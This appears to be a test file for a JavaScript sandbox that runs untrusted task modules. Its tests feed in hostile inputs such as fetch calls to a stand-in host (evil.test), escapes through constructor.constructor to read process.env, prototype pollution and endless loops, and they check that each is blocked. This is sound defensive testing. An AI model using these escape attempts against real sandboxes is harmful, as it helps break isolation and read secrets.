@@ -1,0 +1,366 @@
+/** Tasks by address: files, packages and URLs; and what a hostile module or server does comes to: one sentence each, no worker left. */
+
+import { mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
+import { createServer, type RequestListener } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, describe, expect, test, vi } from 'vitest';
+import { openTask } from '../../src/cli/run/openTask.ts';
+import { decodePlain, encodePlain } from '../../src/tasks/module/plain.ts';
+import { isolatedTask } from '../../src/tasks/module/isolated.ts';
+import { fetchSource, SOURCE_LIMITS } from '../../src/tasks/module/source.ts';
+import { Guest } from '../../src/tasks/tools/sandbox.ts';
+import type { ScoredSample, Task } from '../../src/tasks/task.ts';
+
+const closing: (() => unknown)[] = [];
+afterEach(async () => {
+  vi.restoreAllMocks();
+  for (const close of closing.splice(0)) await close();
+});
+
+const ENTRY = 'https://example.test/tasks/mine.js';
+
+/** A module whose functions are as good as any, those in `parts` aside. */
+const moduleOf = (parts: Record<string, string> = {}, before = '') => `${before}
+const problem = (id) => ({ id, messages: [{ role: 'user', content: 'x' }], answer: '1' });
+export default {
+  name: ${parts['name'] ?? "'mine'"},
+  train: ${parts['train'] ?? '(index) => problem(`train-${index}`)'},
+  heldOut: ${parts['heldOut'] ?? '(count) => Array.from({ length: count }, (_, i) => problem(`held-out-${i}`))'},
+  reward: ${parts['reward'] ?? '() => ({ score: 1, acc: 1 })'},
+  ${parts['more'] ?? ''}
+};`;
+
+async function isolated(files: string | Record<string, string>, timeoutMs = 20_000): Promise<Task> {
+  const texts = typeof files === 'string' ? { [ENTRY]: files } : files;
+  const read = (address: string) =>
+    Object.hasOwn(texts, address) ? Promise.resolve(texts[address]) : Promise.reject(new Error(`no ${address}`));
+  const task = await isolatedTask({ entry: ENTRY, root: 'https://example.test/', read }, {}, { timeoutMs });
+  closing.push(() => task.close?.());
+  return task;
+}
+
+const sample = { problem: { id: 'p', messages: [], answer: '1' }, response: 'r' } as unknown as ScoredSample;
+const CALLS: Record<string, (task: Task) => unknown> = {
+  train: (task) => task.train(3, 1),
+  heldOut: (task) => task.heldOut(2),
+  reward: (task) => task.reward(sample),
+};
+const NAMED: Record<string, string> = {
+  train: 'Training problem 3',
+  heldOut: 'The list of held-out problems',
+  reward: 'The reward of problem "p"',
+};
+
+describe('a hostile module', () => {
+  test.each(Object.keys(CALLS))('throws in %s: said with its line; the next call is answered', async (part) => {
+    const task = await isolated(moduleOf({ [part]: '() => { throw new TypeError("broken") }' }));
+    await expect(CALLS[part](task)).rejects.toThrow(
+      new RegExp(
+        `^${NAMED[part]} of task module ${ENTRY} threw "TypeError: broken" \\(at ${part} \\(${ENTRY}:\\d+:\\d+\\)\\)`,
+      ),
+    );
+    const other = part === 'reward' ? 'train' : 'reward';
+    await expect(CALLS[other](task)).resolves.toBeDefined();
+  });
+
+  test.each(Object.keys(CALLS))('hangs in %s: ended at its limit, its worker replaced', async (part) => {
+    const task = await isolated(moduleOf({ [part]: '() => { for (;;); }' }), 1500);
+    const ended = vi.spyOn(Guest.prototype, 'end');
+    await expect(CALLS[part](task)).rejects.toThrow(
+      `${NAMED[part]} of task module ${ENTRY} ran longer than 1.5 s (task.timeoutS)`,
+    );
+    expect(ended).toHaveBeenCalledTimes(1);
+    const other = part === 'reward' ? 'train' : 'reward';
+    await expect(CALLS[other](task)).resolves.toBeDefined();
+    task.close!();
+    expect(ended).toHaveBeenCalledTimes(2);
+  });
+
+  test.each([
+    ['hangs when it is loaded', 'for (;;);', 'ran longer than 10 s'],
+    ['throws when it is loaded', 'null.x', `TypeError: cannot read property 'x' of null (at <anonymous> (${ENTRY}:1:`],
+    ['does not parse', 'let = ;', 'SyntaxError: '],
+    ['exports nothing', 'export const a = 1;', 'it has neither a default export nor an export named task'],
+    ['exports a number', 'export default 5;', 'what it exports is no task, nor a function that gives one'],
+    ['has a name that is none', moduleOf({ name: "'a b'" }), 'gives no task (name: '],
+    ['has no reward', moduleOf({ reward: 'undefined' }), 'gives no task (it has no function reward)'],
+    [
+      'imports a package',
+      "import 'lodash';",
+      'import "lodash": an isolated module has no packages; bundle what it needs',
+    ],
+    ['imports from elsewhere', "import 'https://evil.test/x.js';", 'imports from https://example.test/ alone'],
+    ['imports a built-in', "import 'node:fs';", 'imports from https://example.test/ alone'],
+    ['imports what is not there', "import './no.js';", 'no https://example.test/tasks/no.js'],
+  ])('%s', async (_, text, sentence) => {
+    const ended = vi.spyOn(Guest.prototype, 'end');
+    await expect(isolated(text)).rejects.toThrow(sentence);
+    expect(ended).toHaveBeenCalled();
+  });
+
+  test.each([
+    [
+      '10 MB',
+      '() => ({ score: 1, acc: 1, pred: "x".repeat(1e7) })',
+      /gave what cannot cross: it has 100000\d\d characters as JSON/,
+    ],
+    ['a circle', '() => { const a = {}; a.a = a; return a; }', /gave what cannot cross: circular reference/],
+    ['a bigint', '() => 1n', /gave what cannot cross: /],
+    ['a function', '() => () => 1', /gave what cannot cross: it is no data/],
+    [
+      '100 levels',
+      '() => { let a = 1; for (let i = 0; i < 100; i++) a = [a]; return a; }',
+      /nested deeper than 64 levels/,
+    ],
+    ['a million levels', '() => { let a = 1; for (let i = 0; i < 1e6; i++) a = [a]; return a; }', /of task module/],
+    ['a key __proto__', '() => JSON.parse(\'{"__proto__":{"bad":1}}\')', /a key "__proto__", which may not cross/],
+    ['a getter that throws', '() => ({ get score() { throw new Error("got") } })', /cannot cross: got/],
+    ['a promise that is never settled', '() => new Promise(() => {})', /its promise is never settled/],
+    [
+      'an error that cannot be read',
+      '() => { throw { get message() { throw 1 } } }',
+      /threw "an error without a readable message"/,
+    ],
+    ['memory without end', '() => { const a = []; for (;;) a.push("x".repeat(1e6) + a.length); }', /of task module/],
+  ])('returns %s from its reward', async (_, reward, sentence) => {
+    const task = await isolated(moduleOf({ reward }));
+    await expect(task.reward(sample)).rejects.toThrow(sentence);
+    await expect(task.train(0, 1)).resolves.toMatchObject({ id: 'train-0' });
+  });
+
+  const REACHED = [
+    ...['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'indexedDB', 'localStorage'],
+    ...['sessionStorage', 'caches', 'navigator', 'process', 'require', 'SharedArrayBuffer', 'postMessage', 'parent'],
+    ...[
+      'self',
+      'window',
+      'document',
+      'Worker',
+      'crypto',
+      'WebAssembly',
+      'setTimeout',
+      'module',
+      'Buffer',
+      'Deno',
+      'Bun',
+    ],
+  ];
+  test('reaches for what a page or Node has: none of it is there', async () => {
+    const reward = `() => ({ score: 0, acc: 0, pred: ${JSON.stringify(REACHED)}.filter((name) => name in globalThis || (0, eval)('typeof ' + name) !== 'undefined').join() })`;
+    expect(await (await isolated(moduleOf({ reward }))).reward(sample)).toEqual({ score: 0, acc: 0, pred: '' });
+    const fetching = await isolated(moduleOf({ reward: '() => fetch("https://evil.test/" + 1)' }));
+    await expect(fetching.reward(sample)).rejects.toThrow(
+      `threw "ReferenceError: 'fetch' is not defined" (at reward (${ENTRY}:`,
+    );
+  });
+
+  test.each([
+    ['import("./late.js")', 'a module is loaded with all that it imports'],
+    ['import("https://evil.test/x.js")', 'imports from https://example.test/ alone'],
+    ['eval("import(\'node:fs\')")', 'imports from https://example.test/ alone'],
+    ['Function("return process")()', "'process' is not defined"],
+    ['(() => {}).constructor.constructor("return globalThis.process.env")()', 'TypeError'],
+  ])('tries %s', async (code, sentence) => {
+    const task = await isolated(moduleOf({ reward: `async () => { await ${code}; return { score: 1, acc: 1 }; }` }));
+    await expect(task.reward(sample)).rejects.toThrow(sentence);
+  });
+
+  test('changes what everything inherits: nothing changes outside, and the calls go on', async () => {
+    const before = `
+      Array.prototype.map = Array.prototype.includes = () => { throw 1; };
+      Object.prototype.toJSON = undefined; Object.prototype.polluted = 'yes';
+      JSON.parse = JSON.stringify = () => '"mine"'; Promise.prototype.then = () => { throw 1; };
+      Map.prototype.get = () => 1; String.prototype.slice = () => 1; Reflect.apply = () => 1;
+      globalThis.Number = globalThis.Error = undefined;`;
+    const task = await isolated(moduleOf({ heldOut: '(n) => [problem("h")]' }, before));
+    expect(await task.train(0, 1)).toMatchObject({ id: 'train-0', answer: '1' });
+    expect(await task.heldOut(1)).toMatchObject([{ id: 'h' }]);
+    expect(await task.reward(sample)).toEqual({ score: 1, acc: 1 });
+    expect(({} as { polluted?: string }).polluted).toBeUndefined();
+    expect(JSON.stringify([1].map((x) => x))).toBe('[1]');
+  });
+});
+
+test('chance and time follow from the call alone, in whatever order calls come', async () => {
+  const reward = '({ response }) => ({ score: Math.random(), acc: 0, pred: response + Date.now() })';
+  const [a, b] = [await isolated(moduleOf({ reward })), await isolated(moduleOf({ reward }))];
+  const of = (task: Task, response: string) => task.reward({ ...sample, response });
+  const first = [await of(a, 'x'), await of(a, 'y')];
+  expect([await of(b, 'y'), await of(b, 'x')].reverse()).toEqual(first);
+  expect(first[0].score).not.toBe(first[1].score);
+});
+
+test('tools, their states, observe and what it moved; a worker that is started anew goes on from that', async () => {
+  const more = `
+    tools: [{
+      name: 'count', description: 'Counts.', parameters: { type: 'object', properties: {} },
+      create: () => ({ n: 0 }), execute: (args, { state }) => String(++state.n), calcReward: ({ n }) => n, release: () => {},
+    }],
+    observe: (problem, rewards) => { level += rewards.length; },
+    state: () => ({ level }), restore: (state) => { level = state.level; },
+    demonstrate: (problem) => [{ role: 'assistant', content: problem.answer }],`;
+  const reward =
+    '({ response, toolStates }) => { if (response === "hang") for (;;); return { score: toolStates?.count.n ?? level, acc: 0 }; }';
+  const task = await isolated(moduleOf({ more, reward }, 'let level = 0;'), 1000);
+  const [tool] = task.tools!;
+  const context = { sampleId: 's', problem: sample.problem, signal: new AbortController().signal };
+  const state = await tool.create!(context);
+  expect([await tool.execute({}, { ...context, state }), await tool.execute({}, { ...context, state })]).toEqual([
+    '1',
+    '2',
+  ]);
+  expect(await tool.calcReward!(state)).toBe(2);
+  await tool.release!(state);
+  expect(await task.reward({ ...sample, toolStates: { count: state } })).toEqual({ score: 2, acc: 0 });
+  await task.observe!(sample.problem, [
+    { score: NaN, acc: 0 },
+    { score: 1, acc: 1 },
+  ]);
+  expect(task.state!()).toEqual({ level: 2 });
+  await expect(task.reward({ ...sample, response: 'hang' })).rejects.toThrow('ran longer than 1 s');
+  expect(await task.reward(sample)).toEqual({ score: 2, acc: 0 });
+  await expect(tool.execute({}, { ...context, state })).rejects.toThrow('the state of this sample is gone');
+});
+
+test('what crosses is the same on the other side, NaN and infinities too', () => {
+  const value = { a: [NaN, Infinity, -Infinity, -1.5, null, 'x"]}'], $number: 'NaN', b: { c: {} } };
+  expect(decodePlain(encodePlain(value))).toEqual(value);
+  expect(() => encodePlain('x'.repeat(4_000_001))).toThrow('at most 4000000 may cross');
+});
+
+async function served(answer: RequestListener): Promise<string> {
+  const server = createServer(answer);
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  closing.push(() => (server.closeAllConnections(), server.close()));
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/mine.js`;
+}
+const JS = { 'content-type': 'text/javascript' };
+const moduleTask = (module: string, more: object = {}) =>
+  openTask({ name: 'gsm8k', module, timeoutS: 20, options: {}, ...more });
+
+describe('a hostile server', () => {
+  test.each<[string, RequestListener, string]>([
+    [
+      'redirects elsewhere',
+      (_, r) => r.writeHead(302, { location: 'https://evil.test/' }).end(),
+      'redirects to https://evil.test/; give the',
+    ],
+    [
+      'redirects to a private address',
+      (_, r) => r.writeHead(307, { location: 'http://10.0.0.1/' }).end(),
+      'redirects to http://10.0.0.1/',
+    ],
+    ['has none', (_, r) => r.writeHead(404).end(), 'is not there: its server answered 404'],
+    [
+      'sends a web page',
+      (_, r) => r.writeHead(200, { 'content-type': 'text/html' }).end('<p>'),
+      'is text/html; a module is sent as',
+    ],
+    ['sends 50 MB', (_, r) => void r.writeHead(200, JS).end('x'.repeat(5e7)), 'is larger than 1000000 bytes'],
+    ['sends no text', (_, r) => r.writeHead(200, JS).end(Buffer.from([0xff, 0xfe])), 'is no text in UTF-8'],
+    ['hangs up', (_, r) => void r.destroy(), 'could not be fetched (fetch failed'],
+    ['never answers', () => undefined, 'did not come in 0.2 s'],
+    ['never ends its answer', (_, r) => void r.writeHead(200, JS).write('x'), 'did not come in 0.2 s'],
+  ])('%s', async (_, answer, sentence) => {
+    const limits = { ...SOURCE_LIMITS, timeoutMs: sentence.includes('0.2 s') ? 200 : 30_000 };
+    await expect(fetchSource(await served(answer), limits)).rejects.toThrow(sentence);
+  });
+
+  test.each([
+    'http://example.test/x.js',
+    'ftp://example.test/x.js',
+    'data:text/javascript,1',
+    'https://me:secret@example.test/',
+  ])('an address that is none: %s', async (address) => {
+    await expect(moduleTask(address)).rejects.toThrow(/^task\.module is ".*"; an address is https:\/\//);
+    await expect(moduleTask(address)).rejects.not.toThrow('secret');
+  });
+
+  test('a module of a server runs isolated, with its imports, and is known by its SHA-256', async () => {
+    let text = 'export const n = 1;';
+    const main = `import { n } from './n.js'; ${moduleOf({ reward: '() => ({ score: n, acc: 0 })' })}`;
+    const address = await served(({ url }, r) => void r.writeHead(200, JS).end(url === '/n.js' ? text : main));
+    const opened = async () => {
+      const task = await moduleTask(address);
+      closing.push(() => task.close?.());
+      return task;
+    };
+    const first = await opened();
+    expect(await first.reward(sample)).toEqual({ score: 1, acc: 0 });
+    expect((await opened()).sha256).toBe(first.sha256);
+    text = 'export const n = 2;';
+    expect((await opened()).sha256).not.toBe(first.sha256);
+    await expect(moduleTask(address, { isolated: false })).rejects.toThrow(
+      'code from elsewhere runs in the sandbox alone',
+    );
+  });
+});
+
+describe('in Node', () => {
+  const folder = mkdtempSync(join(tmpdir(), 'webgrpo-module-'));
+  const write = (name: string, text: string) => {
+    mkdirSync(join(folder, name, '..'), { recursive: true });
+    writeFileSync(join(folder, name), text);
+    return join(folder, name);
+  };
+
+  test('a file runs as our own code does, or isolated where that is asked for', async () => {
+    const text = moduleOf({ reward: "() => ({ score: typeof process === 'object' ? 1 : 0, acc: 0 })" });
+    const path = write('own.mjs', text);
+    expect(await (await moduleTask(path)).reward(sample)).toEqual({ score: 1, acc: 0 });
+    const task = await moduleTask(path, { isolated: true });
+    expect(await task.reward(sample)).toEqual({ score: 0, acc: 0 });
+    task.close!();
+    await expect(moduleTask(write('bad.mjs', '\nthrow new Error("at load")'))).rejects.toThrow(
+      /does not load: at load \(bad\.mjs:2/,
+    );
+    await expect(moduleTask(write('none.mjs', 'export default 5'))).rejects.toThrow('gives no task');
+    await expect(moduleTask('./nothing-there.js')).rejects.toThrow('there is no file ./nothing-there.js in');
+    await expect(moduleTask('no-such-package-here')).rejects.toThrow(
+      'neither a file nor a package that is installed here',
+    );
+    await expect(moduleTask(path, { path: 'x.jsonl' })).rejects.toThrow('task.module brings its own problems');
+  });
+
+  test('examples/task-module.js gives the same problems and rewards, isolated and not', async () => {
+    const given = async (isolated: boolean) => {
+      const task = await moduleTask('./examples/task-module.js', { isolated, options: { most: 9 } });
+      const problem = await task.train(1, 2);
+      const rewards = [
+        await task.reward({ ...sample, problem, response: `#### ${problem.answer}` }),
+        await task.reward(sample),
+      ];
+      const all = [task.name, problem, await task.heldOut(4), rewards];
+      task.close?.();
+      return all;
+    };
+    const own = await given(false);
+    expect(own).toMatchObject(['sums', { id: 'train-1' }, {}, [{ acc: 1 }, { acc: 0 }]]);
+    expect(await given(true)).toEqual(own);
+  });
+
+  test('TypeScript, by Node itself or by a bundler that is installed', async () => {
+    const typed = `const one: number = 1;\n${moduleOf({ reward: '() => ({ score: one, acc: 0 })' })}`;
+    mkdirSync('test/tmp-task-module', { recursive: true });
+    closing.push(async () => (await import('node:fs')).rmSync('test/tmp-task-module', { recursive: true }));
+    writeFileSync('test/tmp-task-module/typed.ts', typed);
+    expect(await (await moduleTask('./test/tmp-task-module/typed.ts')).reward(sample)).toEqual({ score: 1, acc: 0 });
+    expect(readdirSync('test/tmp-task-module')).toEqual(['typed.ts']);
+    const task = await moduleTask('./test/tmp-task-module/typed.ts', { isolated: true });
+    expect(await task.reward(sample)).toEqual({ score: 1, acc: 0 });
+    task.close!();
+  });
+
+  test('a package of the working folder, by its exports', async () => {
+    write(
+      'node_modules/@me/tasks/package.json',
+      JSON.stringify({ exports: { './sum': { import: './sum.mjs' } }, name: '@me/tasks' }),
+    );
+    write('node_modules/@me/tasks/sum.mjs', moduleOf({ name: "'sum'" }));
+    vi.spyOn(process, 'cwd').mockReturnValue(folder);
+    expect((await moduleTask('@me/tasks/sum')).name).toBe('sum');
+    await expect(moduleTask('@me/tasks/other')).rejects.toThrow('does not export "./other"');
+  });
+});
